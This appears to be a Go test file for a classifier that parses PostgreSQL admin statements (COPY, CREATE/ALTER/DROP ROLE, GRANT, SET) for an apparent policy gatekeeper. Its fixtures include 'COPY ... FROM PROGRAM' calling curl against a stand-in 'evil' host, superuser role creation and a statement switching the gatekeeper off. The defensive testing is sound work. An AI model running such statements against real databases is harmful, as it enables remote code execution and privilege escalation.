package stmt

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func parse(t *testing.T, sql string) Statement {
	t.Helper()
	ev, ok := ParseAdmin(sql)
	require.True(t, ok, "expected %q to classify as an admin statement", sql)
	return ev
}

func TestParseCopy(t *testing.T) {
	tests := []struct {
		sql  string
		want Copy
	}{
		{"COPY users FROM PROGRAM 'curl http://evil/x'",
			Copy{TableName: "users", IsFrom: true, IsProgram: true, Filename: "curl http://evil/x"}},
		{"COPY users TO PROGRAM 'gzip > /tmp/u.gz'",
			Copy{TableName: "users", IsProgram: true, Filename: "gzip > /tmp/u.gz"}},
		{"COPY mytable TO '/tmp/out.csv'",
			Copy{TableName: "mytable", Filename: "/tmp/out.csv"}},
		{"COPY public.users (id, name) FROM '/tmp/in.csv' WITH CSV",
			Copy{TableName: "public.users", IsFrom: true, Filename: "/tmp/in.csv"}},
		{"COPY users FROM STDIN", Copy{TableName: "users", IsFrom: true}},
		{"copy users to stdout", Copy{TableName: "users"}},
	}
	for _, tt := range tests {
		t.Run(tt.sql, func(t *testing.T) {
			ev := parse(t, tt.sql)
			assert.Equal(t, KindDataCopy, ev.Kind())
			assert.Equal(t, tt.want, ev)
		})
	}
}

func TestCopyHasFileTarget(t *testing.T) {
	assert.True(t, Copy{Filename: "/tmp/x"}.HasFileTarget())
	assert.False(t, Copy{}.HasFileTarget())
	assert.False(t, Copy{IsProgram: true, Filename: "cmd"}.HasFileTarget())
}

func TestParseCreateRole(t *testing.T) {
	ev := parse(t, "CREATE ROLE admin SUPERUSER")
	require.IsType(t, CreateRole{}, ev)
	cr := ev.(CreateRole)
	assert.Equal(t, "admin", cr.RoleName)
	require.Len(t, cr.Options, 1)
	assert.Equal(t, RoleOption{Name: "superuser", Value: "true"}, cr.Options[0])

	ev = parse(t, "CREATE USER bob WITH NOSUPERUSER LOGIN PASSWORD 'hunter2'")
	cr = ev.(CreateRole)
	assert.Equal(t, "bob", cr.RoleName)
	assert.Equal(t, []RoleOption{
		{Name: "superuser", Value: "false"},
		{Name: "login", Value: "true"},
		{Name: "password", Value: "hunter2"},
	}, cr.Options)

	ev = parse(t, "CREATE ROLE carol IN ROLE admins, ops CONNECTION LIMIT 5")
	cr = ev.(CreateRole)
	assert.Equal(t, []RoleOption{
		{Name: "addroleto", Value: "admins,ops"},
		{Name: "connectionlimit", Value: "5"},
	}, cr.Options)

	ev = parse(t, `CREATE ROLE "Weird Role" SUPERUSER`)
	cr = ev.(CreateRole)
	assert.Equal(t, "Weird Role", cr.RoleName)

	ev = parse(t, "CREATE ROLE plain")
	cr = ev.(CreateRole)
	assert.Equal(t, "plain", cr.RoleName)
	assert.Empty(t, cr.Options)
}

func TestParseAlterRole(t *testing.T) {
	ev := parse(t, "ALTER ROLE admin WITH SUPERUSER")
	ar := ev.(AlterRole)
	assert.Equal(t, "admin", ar.RoleName)
	assert.Equal(t, []RoleOption{{Name: "superuser", Value: "true"}}, ar.Options)

	ev = parse(t, "ALTER USER admin NOSUPERUSER")
	ar = ev.(AlterRole)
	assert.Equal(t, []RoleOption{{Name: "superuser", Value: "false"}}, ar.Options)

	// The per-role settings form still classifies as a role alteration but
	// carries no role options.
	ev = parse(t, "ALTER ROLE admin SET work_mem = '1GB'")
	ar = ev.(AlterRole)
	assert.Equal(t, "admin", ar.RoleName)
	assert.Empty(t, ar.Options)
}

func TestParseDropRole(t *testing.T) {
	ev := parse(t, "DROP ROLE IF EXISTS alice, bob")
	dr := ev.(DropRole)
	assert.Equal(t, []string{"alice", "bob"}, dr.RoleNames)

	ev = parse(t, "DROP USER carol")
	assert.Equal(t, DropRole{RoleNames: []string{"carol"}}, ev)
}

func TestParseGrantRole(t *testing.T) {
	ev := parse(t, "GRANT admin TO alice")
	gr := ev.(GrantRole)
	assert.True(t, gr.IsGrant)
	assert.Equal(t, []string{"admin"}, gr.GrantedRoles)
	assert.Equal(t, []string{"alice"}, gr.Grantees)

	ev = parse(t, "GRANT readers, writers TO alice, bob")
	gr = ev.(GrantRole)
	assert.Equal(t, []string{"readers", "writers"}, gr.GrantedRoles)
	assert.Equal(t, []string{"alice", "bob"}, gr.Grantees)

	ev = parse(t, "REVOKE admin FROM alice")
	gr = ev.(GrantRole)
	assert.False(t, gr.IsGrant)
	assert.Equal(t, []string{"admin"}, gr.GrantedRoles)

	// Privilege grants are not role grants.
	_, ok := ParseAdmin("GRANT SELECT ON users TO alice")
	assert.False(t, ok)
	_, ok = ParseAdmin("REVOKE ALL ON users FROM alice")
	assert.False(t, ok)
}

func TestParseCreateExtension(t *testing.T) {
	ev := parse(t, "CREATE EXTENSION file_fdw")
	assert.Equal(t, CreateExtension{ExtensionName: "file_fdw"}, ev)

	ev = parse(t, "CREATE EXTENSION IF NOT EXISTS hstore WITH SCHEMA public")
	assert.Equal(t, CreateExtension{ExtensionName: "hstore"}, ev)
}

func TestParseCreateFunction(t *testing.T) {
	ev := parse(t, "CREATE FUNCTION add(a int, b int) RETURNS int AS 'select a+b' LANGUAGE SQL")
	assert.Equal(t, CreateFunction{FunctionName: "add"}, ev)

	ev = parse(t, "CREATE OR REPLACE FUNCTION public.touch() RETURNS void AS 'select 1' LANGUAGE SQL")
	assert.Equal(t, CreateFunction{FunctionName: "public.touch"}, ev)
}

func TestParseVariableSet(t *testing.T) {
	ev := parse(t, "SET gatekeeper.enabled = off")
	assert.Equal(t, VariableSet{Name: "gatekeeper.enabled", Value: "off"}, ev)

	ev = parse(t, "SET LOCAL work_mem TO '1GB'")
	assert.Equal(t, VariableSet{Name: "work_mem", Value: "1GB", IsLocal: true}, ev)

	ev = parse(t, "SET SESSION AUTHORIZATION bob")
	assert.Equal(t, VariableSet{Name: "session_authorization", Value: "bob"}, ev)

	ev = parse(t, "SET ROLE admin")
	assert.Equal(t, VariableSet{Name: "role", Value: "admin"}, ev)
}

func TestUnhandledStatementsStayUnclassified(t *testing.T) {
	for _, sql := range []string{
		"SELECT * FROM users",
		"INSERT INTO users VALUES (1, 'a')",
		"CREATE TABLE t (id INTEGER)",
		"CREATE INDEX idx ON t (id)",
		"ALTER TABLE t ADD COLUMN x INTEGER",
		"DROP TABLE t",
		"VACUUM",
		"",
		"   -- just a comment",
	} {
		_, ok := ParseAdmin(sql)
		assert.False(t, ok, sql)
	}
}

func TestCommentsAndCaseAreTransparent(t *testing.T) {
	ev := parse(t, "/* audit */ create role ADMIN superuser -- trailing")
	cr := ev.(CreateRole)
	assert.Equal(t, "ADMIN", cr.RoleName)
	assert.Equal(t, []RoleOption{{Name: "superuser", Value: "true"}}, cr.Options)
}

func TestRoleOptionBool(t *testing.T) {
	assert.True(t, RoleOption{Name: "superuser"}.Bool())
	assert.True(t, RoleOption{Name: "superuser", Value: "true"}.Bool())
	assert.True(t, RoleOption{Name: "superuser", Value: "on"}.Bool())
	assert.False(t, RoleOption{Name: "superuser", Value: "false"}.Bool())
	assert.False(t, RoleOption{Name: "superuser", Value: "0"}.Bool())
	// Unrecognized text errs toward triggering the policy check.
	assert.True(t, RoleOption{Name: "superuser", Value: "whatever"}.Bool())
}

func TestKindString(t *testing.T) {
	assert.Equal(t, "COPY", KindDataCopy.String())
	assert.Equal(t, "CREATE ROLE", KindRoleCreate.String())
	assert.Equal(t, "OTHER", KindOther.String())
}
